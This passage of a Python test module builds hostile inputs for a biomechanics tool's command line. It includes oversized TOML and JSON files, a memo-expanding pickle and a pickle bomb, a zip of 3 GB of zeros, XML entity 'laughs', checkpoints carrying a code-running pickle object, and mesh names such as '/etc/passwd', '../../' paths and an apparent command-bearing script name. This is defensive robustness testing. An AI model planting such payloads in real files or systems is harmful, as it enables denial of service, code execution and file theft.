            f"sensor called {name[:20]}": lambda t, w=word: t.replace(
                "[sensors.foot_l]", f"[sensors.{w}]", 1
            ),
        }
    changes |= {
        "key of a million parts": lambda t: f"{'a.' * 1_000_000}a = 1\n{t}",
        "header of a million parts": lambda t: f"{t}\n[{'a.' * 1_000_000}a]\n",
        "20,000 keys of 200 parts": lambda t: t + "".join(f"[{'a.' * 200}b{k}]\n" for k in range(20_000)),
        "a million keys": lambda t: t + "[q]\n" + "".join(f"k{k} = 1\n" for k in range(900_000)),
        "9 MB of text": lambda t: t.replace('name = "demo"', f'name = "{"x" * 9_000_000}"', 1),
        "a list of 3 million": lambda t: f"{t}\nx = [{'1,' * 3_000_000}]\n",
        "100,000 sensors": lambda t: t + "".join(f"[sensors.s{k}]\n" for k in range(100_000)),
        "9 MB of an open text": lambda t: f'{t}\nx = "{"a" * 9_000_000}',
        "9 MB of quotes": lambda t: t + "\nx = " + '"' * 9_000_000,
        "9 MB of backslashes": lambda t: f'{t}\nx = """{chr(92) * 9_000_000}',
        "9 MB of blanks": lambda t: f"{t}\nx = {' ' * 9_000_000}1\n",
        "9 MB of a number": lambda t: f"{t}\nx = {'1_' * 4_500_000}1\n",
        "9 MB of a date": lambda t: f"{t}\nx = 1979-05-27T00:32:00.{'9' * 9_000_000}\n",
        "9 MB of a pattern": lambda t: t.replace(
            "[recording.csv]", f'[recording.csv]\nacceleration_pattern = "{"{sensor}" * 100_000}"', 1
        ),
        "a pattern that goes back": lambda t: t.replace(
            "[recording.csv]", f'[recording.csv]\nacceleration_pattern = "{"{sensor}_{axis}" * 30}"', 1
        ),
    }
    for name, change in changes.items():
        for verb in ("check", "run", "replay"):
            if verb == "replay" and "called" in name:
                continue

            def plant(here: Place, change=change, verb=verb) -> Sequence[str | Path]:
                study = demo(here, (lambda text: ended(change(text))) if verb == "run" else change)
                return [verb, study, *(["--out", here.own / "out"] if verb == "run" else [])]

            yield f"{verb}: {name}", plant


def _changed(change: Callable[[dict], object]) -> Callable[[Path, Place], object]:
    def write(path: Path, _: Place) -> None:
        import torch

        content = torch.load(path, weights_only=True)
        torch.save(change(content) or content, path)

    return write


def _strided(content: dict) -> None:
    import torch

    name = next(iter(content["state"]["network"]))
    content["state"]["network"][name] = torch.zeros(1).as_strided((10**6, 10**6), (0, 0))


def _many(content: dict) -> None:
    import torch

    for k in range(2000):
        content["state"]["network"][f"x{k}"] = torch.zeros(1).as_strided((10**8,), (0,))


def _deep(content: dict) -> None:
    value: object = 1
    for _ in range(200):
        value = [value]
    content["identity"]["body"]["model"] = value
    content["identity"]["network"]["x"] = value


def _widened(content: dict) -> None:
    value: object = [1]
    for _ in range(60):
        value = [value, value]
    content["identity"]["body"]["model"] = value


def _long_text(content: dict) -> None:
    content["identity"]["body"]["model"] = "x" * 50_000_000


def _called(content: dict) -> None:
    for section in (content["identity"]["body"], content["identity"]["network"]):
        section["fixed"] = {ESCAPES: SCRIPT}
    content["versions"][ESCAPES] = ESCAPES


def _stored(path: Path, _: Place) -> None:
    import torch

    torch.save({"format": 4, "state": Owned()}, path)


def _old_pickle(path: Path, _: Place) -> None:
    path.write_bytes(pickle.dumps(Owned()))


def _archive(path: Path, _: Place) -> None:
    packed = zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1)
    with packed as made, made.open("archive/data/99", "w", force_zip64=True) as member:
        shutil.copyfileobj(_Zeros(3_000_000_000), member, 1 << 20)


def _pickle_bomb(path: Path, _: Place) -> None:
    bomb_archive(path, "archive/data.pkl", b"\x80\x02", 1_500_000_000)


def _grown(path: Path, _: Place) -> None:
    """Write lists of lists by memo: small in the file, 2 to the 60th in memory if copied."""
    code = (
        b"\x80\x02]q\x00"
        + b"".join(
            b"]q" + bytes([k + 1]) + b"(" + b"h" + bytes([k]) + b"h" + bytes([k]) + b"e" for k in range(60)
        )
        + b"."
    )
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("archive/data.pkl", code)
        made.writestr("archive/version", "3\n")


def _bytearrays(path: Path, _: Place) -> None:
    code = b"\x80\x02(" + b"c__builtin__\nbytearray\nJ\xff\xff\xff\x7f\x85R" * 50 + b"t."
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("archive/data.pkl", code)
        made.writestr("archive/version", "3\n")


def checkpoint_bombs(results: Path) -> Iterator[tuple[str, Plant]]:
    """Give checkpoints that grow or run programs."""
    file = "training/seed_0/checkpoint.pt"

    kinds = {
        "a number repeated 10^12 times": _changed(_strided),
        "2000 numbers repeated 10^8 times": _changed(_many),
        "200 lists in each other": _changed(_deep),
        "2^60 lists": _changed(_widened),
        "50 MB of text": _changed(_long_text),
        "hostile names": _changed(_called),
        "a program": _stored,
        "a program, unpacked": _old_pickle,
        "3 GB of zeros": _archive,
        "1.5 GB of pickle": _pickle_bomb,
        "lists that grow": _grown,
        "arrays of bytes": _bytearrays,
    }
    for name, write in kinds.items():
        for verb in ("export", "estimate", "adapt", "stream", "locate-sensors"):

            def plant(here: Place, write=write, verb=verb) -> Sequence[str | Path]:
                out = here.own / "out"
                shutil.copytree(results, out)
                write(out / file, here)
                if verb == "export":
                    return ["export", out, "--out", here.own / "x.onnx"]
                manifest = json.loads((out / "manifest.json").read_text())
                from sspinn_opensim.files import sha256

                new = sha256(out / file)
                old = manifest["files"][file]["sha256"]
                text = json.dumps(manifest).replace(old, new)
                (out / "manifest.json").write_text(text)
                study = demo(here)
                if verb == "adapt":
                    return ["adapt", study, "--from", out, "--steps", "1", "--out", here.own / "adapted"]
                if verb == "locate-sensors":
                    return [verb, study, "--network", out, "--out", here.own / "located"]
                more = ["--udp", "0"] if verb == "stream" else ["--steps", "6"]
                return [verb, study, *more, "--out", out]

            yield f"{verb} with a checkpoint of {name}", plant


def json_cases(results: Path) -> Iterator[tuple[str, Plant]]:
    """Give JSON files of a results folder that are bombs, or full of hostile texts."""

    def everywhere(value: object, name: str) -> object:
        if isinstance(value, dict):
            return {key: everywhere(item, name) for key, item in value.items()}
        if isinstance(value, list):
            return [everywhere(item, name) for item in value]
        return f"{name}{value}" if isinstance(value, str) and len(value) < 60 and "/" not in value else value

    def bombs(path: Path) -> dict[str, Callable[[], object]]:
        return {
            "200 MB of lists": lambda: path.write_bytes(b"[" + b"[],[{}]," * 25_000_000 + b"1]"),
            "200 MB of a text": lambda: path.write_bytes(b'"' + b"x" * 200_000_000 + b'"'),
            "100,000 lists in each other": lambda: path.write_bytes(b"[" * 100_000),
            "keys that collide": lambda: path.write_text(
                json.dumps({f"{k * (2**61 - 1)}": k for k in range(200_000)})
            ),
            **{
                f"texts of {kind}": lambda name=name: path.write_text(
                    json.dumps(everywhere(json.loads(path.read_text()), name))
                )
                for kind, name in NAMES.items()
            },
        }

    files = ("manifest.json", "scaling.json", "static_optimization.json", "fit.json", "consistency.json",
             "spatiotemporal.json")  # fmt: skip
    kinds = list(bombs(Path()))
    for name in files:
        for kind in kinds:
            for verb in ("open", "evaluate"):

                def plant(here: Place, name=name, kind=kind, verb=verb) -> Sequence[str | Path]:
                    shutil.copytree(results, here.own / "out")
                    bombs(here.own / "out" / name)[kind]()
                    if verb == "open":
                        return ["open", here.own / "out"]
                    return ["evaluate", demo(here), "--steps", "6", "--out", here.own / "out"]

                yield f"{verb} a folder with {kind} in {name}", plant


def mesh_cases(results: Path) -> Iterator[tuple[str, Plant]]:
    """Give meshes of a model's bones that are bombs."""
    vtp = (
        '<VTKFile type="PolyData"><PolyData><Piece><Points><DataArray format="ascii">{}'
        "</DataArray></Points><Polys>"
        '<DataArray Name="connectivity" format="ascii">{}</DataArray>'
        '<DataArray Name="offsets" format="ascii">{}'
        "</DataArray></Polys></Piece></PolyData></VTKFile>"
    )

    def stl(count: int) -> bytes:
        return bytes(80) + struct.pack("<I", count) + bytes(50 * min(count, 600_000))

    meshes: dict[str, tuple[str, Callable[[], bytes]]] = {
        "a polygon of 2 million corners": (
            "x.vtp", lambda: vtp.format("0 0 0 1 0 0 0 1 0", "0 1 2 " * 700_000, "2100000").encode()
        ),
        "polygons of all sizes": (
            "x.vtp",
            lambda: vtp.format(
                "0 0 0 1 0 0 0 1 0",
                "0 1 2 " * 700_000,
                " ".join(str(k * (k + 1) // 2) for k in range(1, 2049)),
            ).encode(),
        ),
        "laughs in UTF-16": (
            "x.vtp",
            lambda: (
                f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE V [{_LAUGHS}]>'
                + vtp.format("&e11;", "", "")
            ).encode("utf-16"),
        ),
        "300,000 levels": ("x.vtp", lambda: b"<VTKFile>" + b"<a>" * 3_000_000),
        "600,000 facets": ("x.stl", lambda: stl(600_000)),
        "4 billion facets": ("x.stl", lambda: stl(2**32 - 1)),
        "a face of 3 million corners": (
            "x.obj", lambda: b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf" + b" 1 2 3" * 1_000_000 + b"\n"
        ),
        "a number of a million digits": ("x.obj", lambda: b"v " + b"9" * 1_000_000 + b" 0 0\nf 1 1 1\n"),
        "an index of a million digits": ("x.obj", lambda: b"v 0 0 0\nf " + b"9" * 4000 + b" 1 1\n"),
        "infinite points": ("x.obj", lambda: b"v inf 0 0\nv 1e308 1e308 1e308\nf 1 2 2\nf 2 2 1"),
        "distant points": ("x.obj", lambda: b"v 4.9 0 0\nv -4.9 4.9 0\nv 0 0 4.9\n" + b"f 1 2 3\n" * 900_000),
    }  # fmt: skip
    names = {
        "a path up": "../../beside/folder/x.stl",
        "a root": "/etc/passwd",
        "a device": "/dev/zero",
        "a pipe": "pipe.stl",
        "a script": SCRIPT,
    }

    def plant_with(here: Place, mesh: str, count: int = 1) -> Sequence[str | Path]:
        out = here.own / "out"
        shutil.copytree(results, out)
        text = (out / "subject.osim").read_text()
        drawn = "".join(
            f'<Mesh name="m{k}"><socket_frame>..</socket_frame><mesh_file>{_xml(mesh)}</mesh_file></Mesh>'
            for k in range(count)
        )
        assert "<attached_geometry>" in text
        (out / "subject.osim").write_text(
            text.replace("<attached_geometry>", f"<attached_geometry>{drawn}", 1)
        )
        from sspinn_opensim.files import sha256

        manifest = json.loads((out / "manifest.json").read_text())
        old = manifest["files"]["subject.osim"]["sha256"]
        text = json.dumps(manifest).replace(old, sha256(out / "subject.osim"))
        (out / "manifest.json").write_text(text)
        return ["evaluate", demo(here), "--steps", "6", "--out", out]

    for name, (file, made) in meshes.items():
        for count in (1, 400):

            def plant(here: Place, file=file, made=made, count=count) -> Sequence[str | Path]:
                words = plant_with(here, file, count)
                (here.own / "out" / file).write_bytes(made())
                return words

            yield f"{count} meshes of {name}", plant
    for name, mesh in names.items():

        def plant_name(here: Place, mesh=mesh) -> Sequence[str | Path]:
            words = plant_with(here, mesh)
            os.mkfifo(here.own / "out" / "pipe.stl")
            return words

        yield f"a mesh called {name}", plant_name


def all_cases(results: Path | None) -> Iterator[tuple[str, Plant]]:
    """Give all cases; those of a results folder where there is one."""
    yield from role_cases()
    yield from recording_bombs()
    yield from model_bombs()
    yield from table_bombs()
    yield from load_cases()
    yield from set_up_cases()
    yield from study_cases()
    if results is not None:
        ResultsFolder(results)
        yield from folder_cases(results)
        yield from link_cases(results)
        yield from other_files_of_folders(results)
        yield from checkpoint_bombs(results)
        yield from json_cases(results)
        yield from mesh_cases(results)
